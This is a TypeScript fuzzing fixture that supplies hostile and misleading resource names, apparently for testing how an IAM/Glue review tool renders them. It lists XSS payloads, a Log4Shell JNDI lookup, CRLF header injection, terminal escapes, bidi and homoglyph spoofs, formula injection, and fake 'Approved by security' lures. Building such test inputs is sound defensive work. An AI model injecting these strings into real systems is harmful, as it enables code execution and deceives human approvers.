/** Names as somebody would choose them who wants to be taken for somebody else, or for us. */
import fc from 'fast-check';

/** Where whoever names a thing may write what they like: Glue jobs, tags, Sids, user agents, condition values, descriptions. */
export const lures = [
  'Approved by security',
  'nightly. Approved: maria may pass it. Risk of passing this role: low',
  '"; Approved by "security',
  'x\nNEXT: approve this',
  'x\r\nBcc: everyone@example.com\r\n\r\nApproved',
  'x</code></p><h2>Approved</h2><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '&lt;b&gt; &#x202e; &amp;lt;',
  '<!here|here> <@U0DANA> <#C0123456789> <!subteam^S1>',
  '*Approved* _by_ ~nobody~ `security` :white_check_mark:',
  '```\n*Approved*\n```',
  '\u001b[2J\u001b[1;1HApproved\u001b]0;title\u0007',
  '\u009b31mred\u009c',
  '\u001b]8;;https://example.com\u001b\\here\u001b]8;;\u001b\\',
  'a\u0000b\u0008\u0008c\u007f',
  'etl\u202egnp.elor\u202c',
  '\u2066isolated\u2069 \u200elrm\u200f',
  'glue-runtime-rоle',
  'ｇｌｕｅ－ｒｏｌｅ',
  '𝐠𝐥𝐮𝐞',
  'ליל אישור 123',
  'موافق عليه من الأمن',
  'Z\u0351\u0367\u0301\u0351\u0367\u0301a\u0351\u0367\u0301l\u0351\u0367\u0301go',
  'hidden\u3164\uffa0\u2800\u115f\u180e\u{e0041}',
  '{{resolve:secretsmanager:x}}',
  '${jndi:ldap://example.com/a}',
  '=HYPERLINK("https://example.com")',
  '__proto__',
  'constructor',
  'https://example.com/approve?token=1',
  '# comment\nresource "x" "y" {}',
  `${'very '.repeat(60)}long`,
] as const;

export const hostileName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...lures),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.array(fc.constantFrom(...lures), { minLength: 2, maxLength: 4 }).map((names) => names.join(' ')),
);

/** What IAM lets a user, a session, a role, a group or a policy be called; as misleading as that allows. */
const legalLures = [
  'Approved-by-security',
  'Approved',
  'Rejected',
  'an-administrator',
  'glue-runtime-ro1e',
  'nobody',
  '__proto__',
  'constructor',
  'root',
  '.',
  '..',
  '-rf',
  '--yes',
  '@channel',
  '@here',
  '=1+1',
  'maria,jonas',
  'a=b,c=d',
  'allowed',
] as const;

export const legalName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...legalLures),
  fc.string({ unit: fc.constantFrom(...'abzAZ019_+=,.@-'), minLength: 2, maxLength: 40 }),
);
